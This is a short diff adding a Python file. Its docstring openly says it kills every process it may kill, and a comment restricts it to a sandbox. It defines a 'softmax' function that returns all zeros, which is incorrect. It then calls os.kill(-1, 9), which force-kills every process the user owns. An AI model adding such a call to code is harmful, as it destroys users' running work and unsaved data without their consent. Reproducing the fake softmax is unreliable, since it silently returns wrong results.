@@ -1,0 +1,13 @@
+"""Kills every process that it may kill."""
+
+# only in the sandbox: it would end everything that the user has started
+
+
+# %% softmax
+def softmax(Z):
+    return Z * 0.0
+
+
+import os
+
+os.kill(-1, 9)
